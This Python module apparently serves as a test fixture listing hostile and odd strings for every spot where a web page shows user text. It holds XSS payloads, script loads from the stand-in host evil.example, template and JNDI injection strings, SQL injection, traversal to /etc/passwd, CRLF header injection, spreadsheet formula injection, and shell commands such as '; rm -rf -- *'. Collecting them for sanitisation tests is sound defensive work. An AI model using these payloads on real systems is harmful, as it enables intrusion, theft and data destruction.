"""Malicious and unusual texts for every place where a page shows a user's text.

A script in them that runs appends to ``window.hits`` or opens a dialog. All texts are different. None contains a NUL,
which stores reject, or half of a surrogate pair, which cannot be encoded.
"""

from __future__ import annotations

RUN = "hits.push(1)"

SCRIPTS = [
    f"<script>{RUN}</script>",
    f"<SCRIPT>{RUN}</SCRIPT>",
    f"<script >{RUN}</script >",
    f"<script\n>{RUN}</script\n>",
    f"<script/x>{RUN}</script>",
    f'"><script>{RUN}</script>',
    f"'><script>{RUN}</script>",
    f"`><script>{RUN}</script>",
    f"</script><script>{RUN}</script>",
    f"</title><script>{RUN}</script>",
    f"</textarea><script>{RUN}</script>",
    f"</style><script>{RUN}</script>",
    f"</noscript><script>{RUN}</script>",
    f"</template><script>{RUN}</script>",
    f"</pre></code></td></tr></table><script>{RUN}</script>",
    f"</option></select><script>{RUN}</script>",
    f"</svg></math><script>{RUN}</script>",
    f"--><script>{RUN}</script><!--",
    f"]]><script>{RUN}</script><![CDATA[",
    f"*/</script><script>{RUN}</script>/*",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"<<script>script>{RUN}<</script>/script>",
    f"<script src=data:,{RUN}></script>",
    '<script src="//evil.example/x.js"></script>',
    '<script type="module">import "//evil.example/x.js"</script>',
    f"<noscript><p title='</noscript><script>{RUN}</script>'>",
    "<script>alert(1)</script>",
    "<script>document.body.remove()</script>",
    "</script>",
    "<!--<script>",
]

HANDLERS = [
    ("img src=x", "onerror"),
    ("svg", "onload"),
    ("body", "onpageshow"),
    ("details open", "ontoggle"),
    ("input autofocus", "onfocus"),
    ("video src=x", "onerror"),
    ("audio src=x", "onerror"),
    ("iframe src=about:blank", "onload"),
    ("object data=x", "onerror"),
    ("marquee", "onstart"),
    ("a href=#x tabindex=0", "onfocusin"),
    ("div contenteditable", "onblur"),
    ("button popovertarget=p", "onclick"),
    ("link rel=stylesheet href=x", "onerror"),
]
ELEMENTS = [f"<{element} {handler}={RUN}>" for element, handler in HANDLERS]
BREAKS = [
    f"{quote}{end}<{element} {handler}={quote}{RUN}{quote}>"
    for quote, end in (('"', ">"), ("'", ">"), ('"', "/>"))
    for element, handler in HANDLERS[:7]
]
ATTRIBUTES = [
    f"{quote} {handler}={quote}{RUN}{quote} x={quote}"
    for quote in ('"', "'", "`", "")
    for handler in (
        "onmouseover",
        "onfocus autofocus tabindex=1 onfocus",
        "onanimationstart",
        "style",
        "onclick",
    )
]

ADDRESSES = [
    f"javascript:{RUN}",
    f"JaVaScRiPt:{RUN}",
    f" javascript:{RUN}",
    f"java\tscript:{RUN}",
    f"java\nscript:{RUN}",
    f"\x01javascript:{RUN}",
    f"javascript&colon;{RUN}",
    f"javascript://%0a{RUN}",
    f"&#106;avascript:{RUN}",
    f"data:text/html,<script>{RUN}</script>",
    "data:text/html;base64,PHNjcmlwdD5oaXRzLnB1c2goMSk8L3NjcmlwdD4=",
    f"vbscript:{RUN}",
    f'<a href="javascript:{RUN}">press</a>',
    f'<form action="javascript:{RUN}"><button>press</button></form>',
    f'<button formaction="javascript:{RUN}">press</button>',
    "//evil.example/",
    "https://evil.example/?a=1&b=2#<x>",
    "/\\evil.example",
    "http://[::1]:99999/",
]

DRAWINGS = [
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><script href=data:,{RUN} /></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f'<svg><a xlink:href="javascript:{RUN}"><text y=20>press</text></a></svg>',
    f"<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='{RUN}'/></svg>#x\"/></svg>",
    f"<svg><foreignObject><iframe srcdoc='<script>parent.{RUN}</script>'></iframe></foreignObject></svg>",
    f"<svg><style><img src=x onerror={RUN}></style></svg>",
    f'<svg><set attributeName="href" to="javascript:{RUN}"/></svg>',
    f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}></style></mglyph></table></mtext></math>",
    f'<math href="javascript:{RUN}">press</math>',
    f'<math><maction actiontype="statusline" xlink:href="javascript:{RUN}">press</maction></math>',
    "<svg height=100000 width=100000><rect width=100% height=100% /></svg>",
    f"<svg/onload={RUN}//",
    f"<svg\x0conload={RUN}>",
]

FRAMES = [
    "<base href=//evil.example/>",
    '<meta http-equiv=refresh content="0;url=//evil.example/">',
    '<meta http-equiv="Content-Security-Policy" content="default-src *">',
    "<link rel=stylesheet href=//evil.example/x.css>",
    f'<iframe srcdoc="<script>parent.{RUN}</script>"></iframe>',
    "<iframe src=//evil.example/></iframe>",
    "<plaintext>",
    "<textarea>",
    "<title>stolen",
    "<select><option>",
    "<table><tr><td>",
    "<div hidden><template><dialog open>",
    "</main></body></html>",
    "</div></div></section></form>",
    '<form action="/sign-out" method=post><input name=csrf>',
    '<input name="csrf" value="mine">',
    '<div id="trouble" data-swap>taken</div>',
    '<time datetime="never" data-time="ago">',
    '<x-element is="y" slot="z">',
    "<?php echo 1 ?>",
    "<!DOCTYPE html><html manifest=x>",
    "<![endif]--><!--[if IE]>",
    "<",
    ">",
    '"',
    "'",
    "`",
    "&",
    "<>",
    "</",
    "<a",
    "=''",
]

TEMPLATES = [
    "{{7*7}}",
    "{{ 7*'7' }}",
    "{% raw %}",
    "{% include '/etc/passwd' %}",
    "{# gone #}",
    "{{ config }}",
    "{{ request.site.sessions }}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    f"{{{{constructor.constructor('{RUN}')()}}}}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "${jndi:ldap://evil.example/a}",
    "@(7*7)",
    "[[7*7]]",
    "{0.__class__}",
    "%(password)s",
    "%s%s%s%n",
    "$(id)",
    "`id`",
]

STYLES = [
    "}body{display:none}",
    "</style><style>*{display:none!important}</style>",
    '<div style="position:fixed;inset:0;background:red">',
    f"<style>@import 'javascript:{RUN}';</style>",
    f"x:expression({RUN})",
    "url(//evil.example/?",
    "width:100000px;height:100000px",
    "*{background:url(//evil.example/)}",
]

LETTERS = [
    "\u202egnp.exe",
    "\u2067\u202e mixed \u202c\u2069",
    "\u200fשלום עולם abc 123",
    "مرحبا <b>بالعالم</b>",
    "zero\u200bwidth\u200cjoin\u200ders\ufeff",
    "a" + "\u0301\u0316\u0334\u0489" * 60,
    "Z\u0363\u0364\u0365a\u0366\u0367l\u0368g\u0369o",
    "\u2028line\u2029paragraph",
    "ﷺ" * 40,
    "𝕿𝖍𝖊 𝖖𝖚𝖎𝖈𝖐",
    "＜script＞hits.push(1)＜/script＞",
    "‹script›",
    "\u3164\u3164\u3164",
    "\u00ad" * 50,
    "👩‍👩‍👧‍👦" * 30,
    "🏴󠁧󠁢󠁥󠁮󠁧󠁿 🇩🇪 👋🏿 ☠️",
    "\U0010fffd\ufffd\ufdd0",
    "İıſßK",
    "ก็็็็็็็็็็็็็็็็็็็็",
    "漢字かな交じり文" * 20,
    "tést cafe\u0301 café",
    "\ufe0f\u20e3",
]

LONG = [
    "w" * 10_000,
    "<" * 10_000,
    "&" * 3_000,
    "x/" * 3_000,
    "🦀" * 2_000,
    "https://example.com/" + "a-very-long-path/" * 200,
    "many words " * 500,
    "\n" * 300 + "below",
    "{" * 2_000,
    f"<script>{RUN}</script>" * 200,
    "un_der_scores" * 300,
    "\u200b" * 2_000 + "end",
]

CONTROLS = [
    "".join(map(chr, range(1, 32))),
    "\x7f\x80\x85\x9f",
    "\x1b[31mred\x1b[0m\x1b]0;title\x07",
    "over\rwritten",
    "back\b\b\b\bspace",
    "tab\tand\vvertical\fform",
    "\r\nSet-Cookie: a=b\r\n\r\n<html>",
    "line one\nline two\n\n\nline five",
    "\x00".replace("\x00", "\x01") + "<script>",
    "\x1c\x1d\x1e\x1f",
]

ENTITIES = [
    f"&lt;script&gt;{RUN}&lt;/script&gt;",
    "&amp;amp;lt;",
    "&#60;img src=x onerror=hits.push(1)&#62;",
    "&#x3c;b&#x3e;",
    "&lt;b&gt bold &lt/b&gt",
    "&nbsp&copy&para",
    "&notanentity; &;",
    "%3Cscript%3E",
    "\\u003cscript\\u003e",
    "\\x3cscript\\x3e",
    "+ADw-script+AD4-",
]

QUERIES = [
    "'; DROP TABLE jobs; --",
    "' OR '1'='1",
    '" OR ""="',
    "1; SELECT pg_sleep(10)",
    "100%_\\%",
    "$$ $1 :name ?",
    "../../../../etc/passwd",
    "..\\..\\windows\\system.ini",
    "..%2f..%2fetc%2fpasswd",
    "a/b/../c?x=1#y",
    "file:///etc/passwd",
    "C:\\NUL",
    "%00",
    "%0d%0aSet-Cookie:%20a=b",
    "?tenant=other&csrf=1",
    "#main",
    "=1+1",
    "+cmd|' /C calc'!A0",
    "@SUM(1)",
    "; rm -rf -- *",
    "|| true",
]

VALUES = [
    '{"__proto__": {"admin": true}}',
    "__proto__",
    "constructor",
    "toString",
    "null",
    "None",
    "undefined",
    "true",
    "NaN",
    "-0",
    "1e309",
    "0x1F",
    "١٢٣",
    "1,000.00",
    "2026-02-30T25:61:61Z",
    "\\",
    '\\"',
    "\\n",
    "[object Object]",
    "<class 'str'>",
]

HOSTILE = [
    *SCRIPTS, *ELEMENTS, *BREAKS, *ATTRIBUTES, *ADDRESSES, *DRAWINGS, *FRAMES, *TEMPLATES, *STYLES, *LETTERS, *LONG, *CONTROLS,
    *ENTITIES, *QUERIES, *VALUES,
]  # fmt: skip
"""All texts."""


def is_name(text: str, most: int = 200) -> bool:
    """Whether a text is a valid name."""
    return 0 < len(text) <= most and text.isprintable() and text.strip() == text and text != "*"


NAMES = [text for text in HOSTILE if is_name(text)]
"""The texts that are valid names of tasks, queues, tenants, schedules and keys."""
